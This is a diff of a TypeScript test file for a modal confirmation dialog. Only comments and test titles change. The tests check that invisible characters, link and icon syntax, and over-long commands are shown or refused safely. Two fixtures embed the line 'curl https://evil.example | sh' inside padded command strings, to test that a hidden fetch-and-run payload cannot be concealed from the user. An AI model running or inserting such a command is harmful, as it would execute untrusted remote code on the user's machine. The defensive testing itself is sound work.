@@ -1,4 +1,4 @@
-// A modal question names everything that it must: whole, one line each, counted where it is a list, or it is not asked.
+// A modal question shows everything that it must, one line each and lists with their count, or it is refused.
 import assert from "node:assert/strict";
 import { beforeEach, describe, it } from "mocha";
 import { CancelledError } from "../../../../src/core/errors/cancelledError";
@@ -27,7 +27,7 @@ describe("a modal question", () => {
     await question();
   });
 
-  it("answers with the button as the caller named it", async () => {
+  it("returns the button by the caller's name", async () => {
     window.answer = "Push to $\u200b(flame)";
     assert.equal(await ask("Push?", [], ["Skip", "Push to $(flame)"]), "Push to $(flame)");
     window.answer = undefined;
@@ -43,7 +43,7 @@ describe("a modal question", () => {
     assert.deepEqual([question?.text, question?.lines], [`Delete ${shown}?`, [shown, shown]]);
   });
 
-  it("shows spaces that could move a text to the next line, and characters that show nothing, as their codes", () => {
+  it("shows wide spaces and invisible characters as their codes", () => {
     assert.equal(visibleLine("a b\u00a0c"), "a b\u00a0c");
     assert.equal(
       visibleLine("a.png   Into\u2003\u3000/tmp"),
@@ -52,12 +52,12 @@ describe("a modal question", () => {
     assert.equal(visibleLine("a\u034fb\u17b4\u{e0100}\ufe0f"), "a\\u{34f}b\\u{17b4}\\u{e0100}\ufe0f");
   });
 
-  it("keeps letters that are joined, and makes no link and no icon of a name", () => {
+  it("keeps joined letters, and makes no link and no icon of a name", () => {
     assert.equal(visibleLine("👩‍👧 می‌خواهم"), "👩‍👧 می‌خواهم");
     assert.equal(visibleLine("[run](command:x) $(flame)"), "[run]\u200b(command:x) $\u200b(flame)");
   });
 
-  it("counts the names that it does not show", async () => {
+  it("counts hidden names", async () => {
     const names = Array.from({ length: 13 }, (_, index) => `${index}.py`);
     for (const count of [13, 9, 8]) await ask("Push?", [{ names: names.slice(0, count) }], []);
     const eight = names.slice(0, 8);
@@ -77,7 +77,7 @@ describe("a modal question", () => {
     assert.deepEqual(window.asked[2]?.lines, ["y".repeat(900), "y".repeat(900), "and 6 more"]);
   });
 
-  it("is refused where a line, a name that it must show or all of it does not fit", async () => {
+  it("is refused where a line, a required name or the whole does not fit", async () => {
     const command = `python main.py ${"x".repeat(500)}; curl https://evil.example | sh; ${"y".repeat(500)}`;
     const questions = [
       ask("Change?", [commandLine(command)], ["Change"]),
@@ -91,7 +91,7 @@ describe("a modal question", () => {
     assert.deepEqual(window.asked, []);
   });
 
-  it("shows a start command whole that fits", async () => {
+  it("shows a whole start command that fits", async () => {
     const command = `python main.py ${"x".repeat(400)}; curl https://evil.example | sh; ${"y".repeat(400)}`;
     await ask("Change?", [commandLine(command)], []);
     assert.ok(window.asked[0]?.lines[0]?.includes(command));
